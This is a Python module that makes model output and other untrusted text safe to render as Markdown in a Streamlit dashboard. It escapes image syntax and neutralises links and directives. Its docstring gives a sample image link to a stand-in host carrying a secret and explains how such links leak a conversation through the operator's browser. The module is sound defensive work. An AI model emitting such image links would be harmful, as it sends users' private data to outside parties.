"""Model output made safe to show as Markdown.

Streamlit already escapes raw HTML in Markdown (the dashboard never passes ``unsafe_allow_html``).
What Markdown still does on its own is load images: ``![x](https://host/?q=secret)`` makes the
operator's browser fetch an address the model chose, a known way to leak a conversation. Image
syntax is therefore escaped, so it shows as text; links stay, since following one takes a click.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator


def safe_markdown(text: str) -> str:
    """``text`` with Markdown image syntax escaped (``![`` becomes ``!\\[``)."""
    return text.replace("![", "!\\[")


def safe_stream(chunks: Iterable[str]) -> Iterator[str]:
    """:func:`safe_markdown` over a stream of chunks, also when ``!`` and ``[`` arrive in
    different chunks (a trailing ``!`` is held back until the next chunk shows what follows)."""
    pending = ""
    for chunk in chunks:
        text = pending + chunk
        pending = ""
        if text.endswith("!"):
            pending, text = "!", text[:-1]
        if text:
            yield safe_markdown(text)
    if pending:
        yield pending


WORD_JOINER = "\u2060"
_AUTOLINK = re.compile(r"(?i)(?:https?:|www\.)")

# Every ASCII punctuation character CommonMark lets a backslash escape, so each shows as itself.
_MD_SPECIALS = frozenset("\\`*_{}[]()#+-.!|<>~$:=\"'&%^@,;?/")


def inert(text: object, *, limit: int | None = None) -> str:
    """Untrusted text (an error message, a reason, an actor, a session id) made to show as exactly
    those characters when Streamlit renders it as Markdown (captions, ``st.markdown``, alerts and
    ``help=`` tooltips all do): every Markdown special character is backslash-escaped, so no image
    loads, no link forms, no ``:red[...]`` directive or ``$...$`` formula applies, and line breaks
    become spaces (a stored text cannot add headings or list items). ``limit`` shortens the text
    first, marking the cut with an ellipsis."""
    s = "" if text is None else str(text)
    if limit is not None and len(s) > limit:
        s = s[: max(limit - 1, 0)] + "…"
    s = " ".join(s.split())
    # GitHub-flavoured Markdown turns a bare http://, https:// or www. address into a link even when
    # its punctuation is escaped; a word joiner (invisible) in the scheme or prefix stops that, so a
    # stored text cannot put a link on the page. E-mail addresses keep their harmless mailto: link.
    s = _AUTOLINK.sub(lambda m: m.group(0)[:-1] + WORD_JOINER + m.group(0)[-1], s)
    return "".join(f"\\{c}" if c in _MD_SPECIALS else c for c in s)
